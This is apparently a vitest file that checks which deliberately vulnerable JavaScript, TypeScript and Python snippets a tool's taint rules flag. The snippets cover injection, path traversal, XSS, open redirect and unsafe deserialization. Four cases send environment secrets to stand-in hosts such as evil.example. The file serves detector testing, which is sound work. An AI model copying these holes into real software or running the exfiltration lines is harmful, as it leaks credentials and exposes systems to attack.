import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { buildCatalog } from '../../../../src/core/rules/catalog.js';
import { taintRuleMatches } from '../../../../src/core/semantics/taint/rules.js';

// Variants of each family written before the Semgrep-syntax taint rules in rules/semgrep/ and
// kept out of their annotated tests: renamed imports, helpers, intermediate variables, another
// framework. Each case states what the rules do with it today, misses included, so a change in
// either direction shows up here. (Cases 0, 10 and 13, aliased imports, were first missed; they
// are caught since plain call sinks also match by canonical name, as Semgrep resolves imports.)
// Cases 7, 20, 22, 24 and 27 were caught later without touching the rules, when the engine learned
// Python `%` formatting, `||`/`or` and base64 decoding.
const files = ['taint-javascript', 'taint-python'];
const catalog = buildCatalog(
  files.map((f) => ({ name: `rules/semgrep/${f}.yml`, text: readFileSync(`rules/semgrep/${f}.yml`, 'utf8'), format: 'semgrep' as const })),
  [],
);

interface Variant {
  lang: 'javascript' | 'typescript' | 'python';
  rule: string;
  code: string;
  /** The line the rule reports, or null for a miss the rules have today. */
  caught: number | null;
}

const VARIANTS: Variant[] = [
  // code injection
  { lang: 'javascript', rule: 'js.flow.code-injection', caught: 3, code: `const run = eval;\napp.post('/calc', (req, res) => {\n  res.json(run(req.body.expr));\n});\n` },
  { lang: 'javascript', rule: 'js.flow.code-injection', caught: 4, code: `function wrap(s) { return '(' + s + ')'; }\napp.get('/f', (req, res) => {\n  const body = req.query.fn;\n  const f = new Function('return ' + wrap(body));\n});\n` },
  { lang: 'python', rule: 'py.flow.code-injection', caught: 4, code: `from flask import request\ndef run():\n    code = request.form['code']\n    compiled = compile(code, '<user>', 'exec')\n    exec(compiled)\n` },
  { lang: 'python', rule: 'py.flow.code-injection', caught: 3, code: `def calc(request):\n    expr = request.POST.get('expr', '0')\n    return eval(expr.strip())\n` },
  // SQL injection
  { lang: 'typescript', rule: 'js.flow.sql-injection', caught: 4, code: `import knex from 'knex';\nconst db = knex(config);\nexport async function list(req: Request) {\n  return db.raw(\`select * from items where owner = '\${req.params.owner}'\`);\n}\n` },
  { lang: 'javascript', rule: 'js.flow.sql-injection', caught: 5, code: `const mysql = require('mysql2/promise');\nfunction byName(name) { return "SELECT * FROM users WHERE name = '" + name + "'"; }\napp.get('/u', async (req, res) => {\n  const pool = await mysql.createPool(cfg);\n  const [rows] = await pool.execute(byName(req.query.name));\n});\n` },
  { lang: 'python', rule: 'py.flow.sql-injection', caught: 5, code: `from flask import request\nfrom sqlalchemy import text\ndef search(session):\n    name = request.args.get('name')\n    stmt = text(f"SELECT * FROM users WHERE name = '{name}'")\n    return session.execute(stmt)\n` },
  { lang: 'python', rule: 'py.flow.sql-injection', caught: 3, code: `from app.models import User\ndef search(request):\n    return User.objects.raw("SELECT * FROM app_user WHERE name = '%s'" % request.GET['q'])\n` },
  // NoSQL injection
  { lang: 'javascript', rule: 'js.flow.nosql-injection', caught: 3, code: `app.post('/login', async (req, res) => {\n  const { email, password } = req.body;\n  const user = await users.findOne({ email, password });\n});\n` },
  { lang: 'javascript', rule: 'js.flow.nosql-injection', caught: 3, code: `router.get('/older', async (ctx) => {\n  const age = ctx.query.age;\n  ctx.body = await people.find({ $where: 'this.age > ' + age }).toArray();\n});\n` },
  // template injection
  { lang: 'javascript', rule: 'js.flow.template-injection', caught: 3, code: `import { render } from 'ejs';\napp.post('/preview', (req, res) => {\n  res.send(render(req.body.template, {}));\n});\n` },
  { lang: 'javascript', rule: 'js.flow.template-injection', caught: 4, code: `const Handlebars = require('handlebars');\napp.get('/card', (req, res) => {\n  const source = '<div>' + req.query.title + '</div>';\n  const tpl = Handlebars.compile(source);\n  res.send(tpl({}));\n});\n` },
  { lang: 'python', rule: 'py.flow.template-injection', caught: 5, code: `from flask import request\nfrom jinja2 import Environment\ndef preview():\n    env = Environment()\n    return env.from_string(request.args['t']).render()\n` },
  { lang: 'python', rule: 'py.flow.template-injection', caught: 4, code: `from flask import request, render_template_string as rts\ndef hello():\n    tpl = "<h1>Hello " + request.values.get('name', '') + "</h1>"\n    return rts(tpl)\n` },
  // path traversal
  { lang: 'javascript', rule: 'js.flow.path-traversal', caught: 4, code: `const fs = require('fs');\nconst path = require('path');\napp.get('/doc/:name', async (req, res) => {\n  const text = await fs.promises.readFile(path.join(__dirname, 'docs', req.params.name), 'utf8');\n});\n` },
  { lang: 'javascript', rule: 'js.flow.path-traversal', caught: 3, code: `app.get('/get', (req, res) => {\n  const file = req.query.f;\n  res.download(\`uploads/\${file}\`);\n});\n` },
  { lang: 'python', rule: 'py.flow.path-traversal', caught: 5, code: `import os\nfrom flask import request, send_file\nBASE = '/srv/files'\ndef get():\n    return send_file(os.path.join(BASE, request.args['f']))\n` },
  { lang: 'python', rule: 'py.flow.path-traversal', caught: null, code: `from flask import request\ndef name_of():\n    return request.args.get('n')\ndef read():\n    name = name_of()\n    with open(f"/data/{name}") as fh:\n        return fh.read()\n` },
  // XSS
  { lang: 'javascript', rule: 'js.flow.reflected-xss', caught: null, code: `http.createServer((req, res) => {\n  const name = new URL(req.url, 'http://x').searchParams.get('name');\n  res.end('<h1>Hello ' + name + '</h1>');\n});\n` },
  { lang: 'javascript', rule: 'js.flow.dom-xss', caught: 2, code: `const target = document.getElementById('out');\ntarget.outerHTML = '<p>' + decodeURIComponent(location.hash.slice(1)) + '</p>';\n` },
  { lang: 'python', rule: 'py.flow.xss', caught: 4, code: `from django.http import HttpResponse\ndef hello(request):\n    name = request.GET['name']\n    return HttpResponse("<p>%s</p>" % name)\n` },
  { lang: 'python', rule: 'py.flow.xss', caught: 4, code: `from flask import request\nfrom markupsafe import Markup\ndef badge():\n    return Markup(f"<b>{request.args.get('n')}</b>")\n` },
  // open redirect
  { lang: 'javascript', rule: 'js.flow.open-redirect', caught: 3, code: `router.get('/login/done', async (ctx) => {\n  const next = ctx.query.next || '/';\n  ctx.redirect(next);\n});\n` },
  { lang: 'javascript', rule: 'js.flow.open-redirect', caught: 2, code: `app.get('/go', (req, res) => {\n  res.redirect(302, decodeURIComponent(req.query.to));\n});\n` },
  { lang: 'python', rule: 'py.flow.open-redirect', caught: 4, code: `from flask import request, redirect\ndef after_login():\n    target = request.args.get('next') or '/'\n    return redirect(target)\n` },
  { lang: 'python', rule: 'py.flow.open-redirect', caught: 3, code: `from django.http import HttpResponseRedirect\ndef back(request):\n    return HttpResponseRedirect(request.GET['next'])\n` },
  // deserialization
  { lang: 'javascript', rule: 'js.flow.unsafe-deserialization', caught: null, code: `const { unserialize } = require('node-serialize');\napp.get('/me', (req, res) => {\n  const profile = unserialize(Buffer.from(req.cookies.profile, 'base64').toString());\n});\n` },
  { lang: 'python', rule: 'py.flow.unsafe-deserialization', caught: 5, code: `import base64, pickle\nfrom flask import request\ndef restore():\n    data = base64.b64decode(request.cookies['session'])\n    return pickle.loads(data)\n` },
  { lang: 'python', rule: 'py.flow.unsafe-deserialization', caught: 4, code: `import yaml\nfrom flask import request\ndef config():\n    return yaml.load(request.data)\n` },
  // exfiltration
  { lang: 'javascript', rule: 'js.flow.secret-exfiltration', caught: 1, code: `fetch('https://collect.example/c?t=' + process.env.GITHUB_TOKEN);\n` },
  { lang: 'javascript', rule: 'js.flow.secret-exfiltration', caught: 3, code: `const dns = require('dns');\nconst key = process.env.AWS_SECRET_ACCESS_KEY;\ndns.lookup(\`\${key}.x.example\`, () => {});\n` },
  { lang: 'python', rule: 'py.flow.secret-exfiltration', caught: 3, code: `import os, requests\ndef ping():\n    requests.get(f"https://h.example/?k={os.environ['OPENAI_API_KEY']}")\n` },
  { lang: 'python', rule: 'py.flow.secret-exfiltration', caught: 3, code: `import os, socket\ndef ping():\n    socket.gethostbyname(os.getenv('DB_PASSWORD') + '.evil.example')\n` },
];

describe('held-back variants of the Semgrep-syntax taint rules', () => {
  it.each(VARIANTS.map((v, i) => [i, v] as const))('case %i is caught or missed as recorded', (_i, v) => {
    const lines = v.code.split('\n').map((_, i) => i + 1);
    const rules = catalog.rules.filter((r) => r.languages?.has(v.lang));
    const { matches, gaveUp } = taintRuleMatches(rules, v.lang, v.code, lines);
    expect(gaveUp).toBeNull();
    const found = matches.filter((m) => m.ruleId === v.rule).map((m) => m.line);
    expect(found).toEqual(v.caught === null ? [] : [v.caught]);
  });

  it('cover every rule of both files', () => {
    expect(new Set(VARIANTS.map((v) => v.rule))).toEqual(new Set(catalog.rules.map((r) => r.meta.id)));
  });
});
